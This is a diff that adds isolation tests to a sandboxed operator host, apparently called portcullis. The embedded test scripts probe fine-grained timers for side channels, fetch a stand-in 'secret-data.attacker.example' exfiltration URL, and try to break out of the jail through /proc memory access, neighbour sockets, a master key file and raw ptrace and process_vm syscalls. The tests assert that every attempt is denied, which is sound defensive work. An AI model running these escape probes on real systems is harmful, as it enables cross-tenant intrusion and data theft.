@@ -9,6 +9,7 @@ use std::time::Duration;
 use bytes::Bytes;
 use http::Request;
 use http_body_util::Full;
+use portcullis_operators::jail::Layer;
 use portcullis_operators::{Cause, OperatorConfig};
 
 use support::{Chunks, Host, Then, eventually};
@@ -410,6 +411,141 @@ export default {{ async fetch() {{
     eventually("the log has it", async || !host.log("attacker").is_empty()).await;
     assert_eq!(origin.connections(), 0);
     neighbour_is_well(&host).await;
+}
+
+/// What a neighbour does shows in the time that one's own work takes, if one can measure it finely enough.
+#[tokio::test]
+async fn clocks_are_too_coarse_to_watch_the_machine_with() {
+    let code = r#"
+const steps = (clock: () => number) => { let least = Infinity, last = clock(); const end = Date.now() + 150; while (Date.now() < end) { const now = clock(); if (now !== last) { least = Math.min(least, now - last); last = now; } } return least; };
+const any = globalThis as any;
+const clocks: Record<string, () => number> = {
+  now: () => performance.now(),
+  prototype: () => Performance.prototype.now.call(performance),
+  event: () => new Event("x").timeStamp,
+  mark: () => any.performance.mark("x").startTime,
+  measure: () => any.performance.measure("x").duration,
+  observer: () => new any.PerformanceObserver(() => {}).now(),
+  instant: () => Number(any.Temporal.Now.instant().epochNanoseconds % 10n ** 15n) / 1e6,
+  zoned: () => Number(any.Temporal.Now.zonedDateTimeISO().epochNanoseconds % 10n ** 15n) / 1e6,
+  plain: () => { const t = any.Temporal.Now.plainTimeISO(); return t.second * 1e3 + t.millisecond + t.microsecond / 1e3 + t.nanosecond / 1e6; },
+  process: () => Number(any.process.hrtime.bigint() % 10n ** 15n) / 1e6,
+};
+// A second thread that counts in shared memory would be a clock, too.
+const threads = [typeof any.Worker, typeof any.Deno, typeof any.require, typeof any.process].filter((kind) => kind !== "undefined");
+export default { fetch() {
+  const found: Record<string, number | string> = { threads: threads.length };
+  for (const [name, clock] of Object.entries(clocks)) { try { found[name] = steps(clock); } catch (error) { found[name] = String(error); } }
+  return Response.json(found);
+} };
+"#;
+    let host = beside(code, |_| {}).await;
+    let found: serde_json::Value = serde_json::from_str(&host.text("attacker", "/").await).unwrap();
+    assert_eq!(found["threads"], 0, "{found}");
+    assert!(found["now"].is_number(), "{found}");
+    for (name, step) in found.as_object().unwrap() {
+        // What is not there throws; a step of null is none at all.
+        let coarse = step.is_string() || step.is_null() || step.as_f64().is_some_and(|step| step > 0.09);
+        assert!(name == "threads" || coarse, "{name}: {found}");
+    }
+    neighbour_is_well(&host).await;
+}
+
+/// A refusal says the same, as fast, whether or not there is something at the other end: nothing is even resolved.
+#[tokio::test]
+async fn refused_destinations_are_not_looked_up() {
+    #[derive(Debug, Default)]
+    struct Asked(std::sync::Mutex<Vec<String>>);
+    impl portcullis_operators::Resolve for Asked {
+        fn resolve<'a>(
+            &'a self,
+            host: &'a str,
+            _: u16,
+        ) -> std::pin::Pin<Box<dyn Future<Output = std::io::Result<Vec<std::net::SocketAddr>>> + Send + 'a>> {
+            self.0.lock().unwrap().push(host.to_owned());
+            Box::pin(std::future::ready(Ok(Vec::new())))
+        }
+    }
+    let asked = std::sync::Arc::new(Asked::default());
+    let host = Host::with_resolver(|_| {}, std::sync::Arc::<Asked>::clone(&asked));
+    let code = handler(
+        "const of = async (url: string) => { try { await fetch(url); return 'answered'; } catch (e) { return String(e); } };\n\
+         return Response.json([await of('http://granted.example/'), await of('http://secret-data.attacker.example/'), await of('http://granted.example:81/')]);",
+    );
+    host.serve(vec![host.operator("attacker", &code, |config| config.net = vec!["granted.example:80".into()])]).await;
+    let text = host.text("attacker", "/").await;
+    assert!(text.contains("granted.example cannot be resolved"), "{text}");
+    assert!(text.contains("needs net secret-data.attacker.example:80"), "{text}");
+    assert_eq!(*asked.0.lock().unwrap(), ["granted.example"]);
+}
+
+/// From inside a jail, with all of the engine's permissions and raw system calls: the neighbour's process, its sockets, its
+/// store, and the host that both belong to.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_belongs_to_another_operator_is_out_of_reach() {
+    let host = Host::new();
+    // Readable as far as modes go, so that the jail alone is what denies.
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(host.folder.path(), std::fs::Permissions::from_mode(0o711)).unwrap();
+    let code = "export default { async fetch(_: Request, env: any) { await env.kv.put('k', 'store-canary'); return new Response('well'); } };";
+    let neighbour = host.operator("neighbour", code, |config| {
+        config.kv = Some(portcullis_operators::config::KvConfig { bytes_max: 10_000 });
+    });
+    host.serve(vec![neighbour]).await;
+    assert_eq!(host.text("neighbour", "/").await, "well");
+    let control = portcullis_operators::control::hosts(&host.settings.run_folder).unwrap().remove(0);
+    let arguments = vec![
+        host.pids("neighbour").await[0].to_string(),
+        control.display().to_string(),
+        host.folder.path().join("kv").display().to_string(),
+    ];
+    let script = r#"
+const [pid, control, kv] = ARGS;
+const its = ["/proc", pid, "root", "private"].join("/");
+await tries({
+  list_store: () => [...Deno.readDirSync(kv + "/neighbour")].length,
+  read_key: () => Deno.readFileSync(kv + "/master.key").length,
+  ask_host: async () => { const c = await Deno.connect({ transport: "unix", path: control }); await c.write(new TextEncoder().encode('{"logs":{"operator":null,"follow":false}}\n')); return await c.read(new Uint8Array(10)); },
+  its_root: () => [...Deno.readDirSync(its)].length,
+  its_socket: () => Deno.connect({ transport: "unix", path: its + "/op.sock" }),
+  its_host_socket: () => Deno.connect({ transport: "unix", path: its + "/host.sock" }),
+  its_memory: () => Deno.openSync(`/proc/${pid}/mem`, { read: true, write: true }),
+  its_maps: () => Deno.readTextFileSync(`/proc/${pid}/maps`),
+  its_descriptors: () => [...Deno.readDirSync(`/proc/${pid}/fd`)].length,
+  read_memory: () => syscall(310, pid, 0, 0, 0, 0, 0),
+  write_memory: () => syscall(311, pid, 0, 0, 0, 0, 0),
+  ptrace: () => syscall(101, 16, pid, 0, 0),
+  stop: () => syscall(62, pid, 19),
+  signal_thread: () => syscall(234, pid, pid, 9),
+  pidfd: () => syscall(434, pid, 0),
+  take_descriptor: () => syscall(438, 3, 3, 0),
+  compare: () => syscall(312, pid, pid, 0, 0, 0),
+  limits: () => syscall(302, pid, 7, 0, 0),
+  affinity: () => syscall(203, pid, 8, 0),
+  priority: () => syscall(141, 0, pid, 19),
+  move_pages: () => syscall(279, pid, 0, 0, 0, 0, 0),
+});
+Deno.exit(0);
+"#;
+    let count = script.matches(": () =>").count() + script.matches(": async () =>").count();
+    // With every layer, and with nothing but what holds without a mount namespace (there an ordinary user's operators share
+    // its user, and only the host's own check of who asks is left).
+    let root = rustix::process::geteuid().is_root();
+    let without = [vec![], vec![Layer::MountNamespace, Layer::PidNamespace]];
+    for without in without.into_iter().take(if root { 2 } else { 1 }) {
+        let mut attack = support::Attack::new(script);
+        attack.arguments = arguments.clone();
+        attack.without = without;
+        attack.folder_mode = Some(std::fs::Permissions::from_mode(0o711));
+        let outcome = tokio::task::spawn_blocking(move || attack.run()).await.unwrap();
+        assert_eq!(outcome.results.len(), count, "{outcome}");
+        for (attempt, found) in &outcome.results {
+            assert!(found.starts_with("DENIED"), "{attempt}: {outcome}");
+        }
+        assert!(!outcome.output.contains("canary"));
+    }
+    assert_eq!(host.text("neighbour", "/").await, "well");
+    assert_eq!(host.metric("portcullis_operator_starts_total.operator.neighbour"), 1);
 }
 
 #[tokio::test]
